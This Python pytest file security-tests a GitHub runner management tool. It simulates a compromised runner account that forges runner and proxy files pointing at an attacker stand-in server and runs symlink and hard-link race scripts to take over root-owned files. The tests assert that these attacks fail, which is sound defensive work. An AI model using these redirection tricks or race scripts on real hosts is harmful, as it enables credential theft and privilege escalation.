"""Rows 4 and 5: the account of a GitHub runner against root, on a systemd host with the stand-in for GitHub.

Whatever the account writes into its folder, no credential leaves for another host, no other runner is deleted, and
nothing of root's changes its owner.
"""

import itertools
import json
import urllib.parse
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from github_api.archive import make_archive
from github_api.standin import StandIn
from github_runner_local import LocalError, fetch
from hosts.runner import ARCHIVE, REPO, Host

pytestmark = [pytest.mark.host, pytest.mark.engine, pytest.mark.timeout(3000)]

FOLDER = "/var/lib/github-runner/1"
#: The second runner, whose registration is in root's record.
SECOND = "/var/lib/github-runner/2"
THIRD = "/var/lib/github-runner/3"
RECORDS = "/etc/github-runner/records"
RECORD = f"{RECORDS}/1.json"
ACCOUNT = "runuser -u github-runner --"
#: Finds what the account owns outside its folders.
FOREIGN = (
    "find / -xdev '(' -user github-runner -o -group github-runner ')' ! -path '/var/lib/github-runner*'"
    " ! -path '/proc/*' ! -path '/tmp/attack*' 2>/dev/null"
)


@pytest.fixture
def host(runner_host: Host) -> Host:
    return runner_host


@pytest.fixture
def attacker() -> Iterator[StandIn]:
    """Another GitHub, which should not be asked anything."""
    with StandIn() as server:
        server.state.serve_archive(ARCHIVE, make_archive("2.336.0"))
        server.state.add_runner(REPO, "gpu-1", ["host-gpu1"])
        yield server


def url_of(host: Host, server: StandIn) -> str:
    return f"http://{urllib.parse.urlsplit(host.url).hostname}:{server.port}"


def write_as_account(host: Host, path: str, text: str) -> None:
    host.sh(f"rm -rf {path}; {ACCOUNT} sh -c 'cat > {path}' <<'E'\n{text}\nE")


def forge_runner_files(host: Host, attacker: StandIn, runner_id: int, folder: str = FOLDER) -> None:
    """What a job can do: name another GitHub, another runner, and a proxy of its own."""
    url = url_of(host, attacker)
    runner = {"agentId": runner_id, "agentName": "other-1", "gitHubUrl": f"{url}/acme/widgets"}
    write_as_account(
        host, f"{folder}/.runner", json.dumps({**runner, "serverUrl": url, "workFolder": "_work"})
    )
    write_as_account(host, f"{folder}/.credentials", "{}")
    write_as_account(host, f"{folder}/.env", f"http_proxy={url}\nHTTP_PROXY={url}\nno_proxy=\n")


def requests_of_root(attacker: StandIn) -> list[tuple[str, str]]:
    """All requests but those of the account's own program, which sends no credential to the host that its file names."""
    return [request for request in attacker.state.requests if request[1] or "/_runner/" not in request[0]]


def test_04_redirected_download_sends_no_login(tmp_path: Path) -> None:
    with StandIn("127.0.0.1") as mirror, StandIn("127.0.0.1") as elsewhere:
        target = f"http://localhost:{elsewhere.port}/_archive/{ARCHIVE}"
        mirror.state.fail("_archive", 302, headers={"Location": target})
        address = f"http://user:password@127.0.0.1:{mirror.port}/_archive/{ARCHIVE}"
        with pytest.raises(LocalError) as error:
            fetch(address, "0" * 64, tmp_path / ARCHIVE)
        assert "password" not in str(error.value)
        assert [bool(request[1]) for request in mirror.state.requests] == [True]
        assert [request[1] for request in elsewhere.state.requests] == [""]


SWAPPER = r"""
import os, random, sys, time
FOLDER, VICTIM = sys.argv[1:]
names = ["bin"] * 4 + ["config.sh", "run.sh", "_work", "_diag", ".runner", ".credentials", ".credentials_rsaparams", "new"]
count = 0
while True:
    name = random.choice(names)
    here = os.path.join(FOLDER, name)
    for act in (
        lambda: os.rename(here, f"{here}.{count}"),
        lambda: os.symlink(os.path.join(VICTIM, random.choice(["", name, "precious"])), here),
        lambda: os.unlink(here),
        lambda: os.link(os.path.join(VICTIM, "precious"), here),
        lambda: os.rename(FOLDER, FOLDER + ".mine"),
        lambda: os.symlink(VICTIM, FOLDER),
        lambda: os.mkdir(here),
    ):
        try:
            act()
        except OSError:
            pass
    count = (count + 1) % 50
    # A thousand times a second, and not all the time of a core.
    time.sleep(0.0005)
"""

#: Swaps `bin` once all programs are replaced: between unpacking an archive and setting the owners of its files.
PATIENT_SWAPPER = r"""
import os, sys, time
FOLDER, VICTIM = sys.argv[1:]
names = ["bin/standin.py", "bin/Runner.Listener", "bin/Runner.Worker", "config.sh", "run.sh"]
programs = [os.path.join(FOLDER, name) for name in names]
old = {path: os.stat(path).st_ctime_ns for path in programs}
while True:
    try:
        if all(os.stat(path).st_ctime_ns != old[path] for path in programs):
            os.rename(FOLDER + "/bin", FOLDER + "/bin.mine")
            os.symlink(VICTIM + "/bin", FOLDER + "/bin")
            break
    except OSError:
        pass
    time.sleep(0.0005)
"""


@pytest.fixture
def swapping(host: Host) -> Iterator[Callable[[], None]]:
    """Processes of the account that swap what is in its folders for links to what is root's.

    One swaps in a loop in the first folder, the other waits for the best moment in the third.
    """
    for name, program in (("attack", SWAPPER), ("attack-once", PATIENT_SWAPPER)):
        host.sh(f"cat > /tmp/{name}.py <<'E'\n{program}\nE\nchmod 644 /tmp/{name}.py")
    host.sh(
        "rm -rf /usr/local/victim; mkdir -p /usr/local/victim/bin; cd /usr/local/victim;"
        "touch precious config.sh run.sh bin/standin.py bin/Runner.Listener bin/Runner.Worker; chmod 644 precious"
    )

    def start() -> None:
        command = "systemd-run --quiet --uid=github-runner --property=Restart={} --unit={} /usr/bin/python3"
        host.sh(f"{command.format('always', 'attack')} /tmp/attack.py {FOLDER} /usr/local/victim")
        host.sh(f"{command.format('no', 'attack-once')} /tmp/attack-once.py {THIRD} /usr/local/victim")

    yield start
    host.sh("systemctl stop attack attack-once; rm -rf /usr/local/victim /tmp/attack*", check=False)


def make_old(host: Host, folder: str) -> None:
    """What the last release left: everything in the folder is the account's, and root has no record."""
    host.sh(
        f"rm {RECORDS}/{Path(folder).name}.json; chown -R github-runner: {folder}; chmod 755 {folder};"
        f"echo 9.9.9 > {folder}/.installed; cp {folder}/bin/Runner.Listener {folder}/version"
    )


def test_04_05_forged_files_and_swapped_folders(
    host: Host, attacker: StandIn, swapping: Callable[[], None]
) -> None:
    """Convert, update, register, start and remove while the account swaps folders for links and forges its files.

    Row 4: no credential leaves, and no other runner is deleted. Row 5: files of root's do not change.
    """
    host.role(github_runner_count=3).good()
    host.online("gpu-1", "gpu-2", "gpu-3")
    first = {name: runner["id"] for name, runner in host.runners().items()}

    # Instances of the last release are known by the role's own description and by their entries at GitHub.
    other = host.standin.state.add_runner(REPO, "other-1", ["self-hosted", "host-gpu9"])
    # An attacker's server knows the runner of its files: one that is refused may end before or after systemd calls it started.
    attacker.state.ids = itertools.count(other["id"])
    attacker.state.add_runner(REPO, "other-1", ["host-gpu9"])
    for folder in (FOLDER, THIRD):
        make_old(host, folder)
    forge_runner_files(host, attacker, other["id"])
    # The registration of the second is there, whatever the account's file says.
    host.sh("systemctl stop github-runner@2")
    forge_runner_files(host, attacker, other["id"], SECOND)
    swapping()
    newer = "actions-runner-linux-x64-2.400.0.tar.gz"
    host.standin.state.serve_archive(newer, make_archive("2.400.0"))
    converted = host.role(github_runner_update=True, github_runner_count=3)
    # The second still waits: it never could swap anything.
    assert host.sh("systemctl is-active attack attack-once", check=False).split() == ["active", "active"]
    host.sh("systemctl stop attack attack-once")
    assert host.sh(FOREIGN, check=False) == ""
    assert host.sh("find /usr/local ! -user root; find /usr/local/victim -type f -size +0") == ""
    converted.good()
    assert requests_of_root(attacker) == []
    assert host.runners()["other-1"]["id"] == other["id"]
    for name in ("gpu-1", "gpu-3"):
        assert host.runners()[name]["id"] != first[name]
    assert host.runners()["gpu-2"]["id"] == first["gpu-2"]
    assert host.sh(f"stat -c '%U %a' {RECORD} {RECORDS}") == "root 600\nroot 700"
    assert json.loads(host.sh(f"cat {RECORDS}/2.json"))["id"] == first["gpu-2"]
    for folder in (FOLDER, SECOND, THIRD):
        assert host.sh(f"stat -c '%U:%G %a' {folder}") == "root:github-runner 1770"
        programs = f"{folder}/bin {folder}/config.sh {folder}/run.sh"
        assert host.sh(f"find {programs} '(' ! -user root -o -perm /022 ')'") == ""
        assert host.sh(f"{folder}/bin/Runner.Listener --version") == "2.400.0"

    account_cannot_change_its_programs(host)
    repair_stays_in_the_work_folder(host)
    second_is_removed_after_a_move(host, attacker)

    # With only a remove token config.sh uses root's copy of the registration.
    forge_runner_files(host, attacker, other["id"])
    token = host.standin.state.mint(REPO, "remove")
    host.role("uninstall", github_runner_pat="", github_runner_remove_token=token).good()
    assert requests_of_root(attacker) == []
    assert set(host.runners()) == {"gpu-2", "other-1"}


def account_cannot_change_its_programs(host: Host) -> None:
    """Root installed them for the account's next job."""
    for attempt in (
        f"mv {FOLDER}/bin {FOLDER}/other",
        f"rm -rf {FOLDER}/bin",
        f"touch {FOLDER}/bin/new",
        f"sh -c 'echo x >> {FOLDER}/bin/Runner.Listener'",
        f"sh -c 'echo x >> {FOLDER}/config.sh'",
        f"mv {FOLDER} {FOLDER}.mine",
        f"cat {RECORD}",
        "ls /var/lib/github-runner/.staging",
    ):
        assert host.sh(f"cd /; {ACCOUNT} {attempt} 2>/dev/null && echo done", check=False) == "", attempt


def repair_stays_in_the_work_folder(host: Host) -> None:
    """Links, hard links, bind mounts, devices and deep folders in `_work` while root repairs its owner."""
    host.sh(
        f"systemctl stop github-runner@1; rm -rf {FOLDER}/_work; install -d -o github-runner {FOLDER}/_work;"
        f"cd {FOLDER}/_work;"
        "mkdir -p deep/a mount; touch deep/a/file; ln /usr/local/victim/precious hard;"
        "ln -s /usr/local/victim link; mknod device b 7 0; mkfifo pipe;"
        "mount --bind /usr/local/victim mount; touch one; mount --bind /usr/local/victim/config.sh one;"
        'python3 -c \'import os\nfor n in range(600): os.mkdir("d"); os.chdir("d")\''
    )
    try:
        host.sh("systemctl start github-runner@1")
        names = "deep deep/a/file link hard device pipe mount one"
        owners = host.sh(f"cd {FOLDER}/_work; stat -c '%n %U' {names}; find /usr/local/victim ! -user root")
        assert owners.splitlines() == [
            "deep github-runner",
            "deep/a/file github-runner",
            "link github-runner",
            "hard root",
            "device root",
            "pipe root",
            "mount root",
            "one root",
        ]
        # A folder is not removed through what is mounted in it.
        removal = "from github_runner_local import *; remove_folder(Path('/var/lib/github-runner'))"
        refused = host.sh(f'cd /usr/local/lib/github-runner; python3 -c "{removal}" 2>&1', check=False)
        assert "is mounted in" in refused
        assert host.sh("ls /usr/local/victim/precious")
    finally:
        host.sh(f"umount {FOLDER}/_work/mount {FOLDER}/_work/one; rm -rf {FOLDER}/_work/d", check=False)


def second_is_removed_after_a_move(host: Host, attacker: StandIn) -> None:
    """The administrator moves to another GitHub: the one that the record names gets no credential."""
    before = len(host.standin.state.requests)
    variables = {
        "github_runner_url": url_of(host, attacker),
        "__github_runner_number": "2",
        "common_protected_environment": {},
    }
    out = host.role("remove", **variables).good().out
    assert "stays listed as offline" in out
    assert "is not sent elsewhere" in out
    assert [request for request in host.standin.state.requests[before:] if request[1]] == []
    assert set(host.runners()) == {"gpu-1", "gpu-2", "gpu-3", "other-1"}
    # What it was asked now, it was asked for the administrator.
    attacker.state.requests.clear()
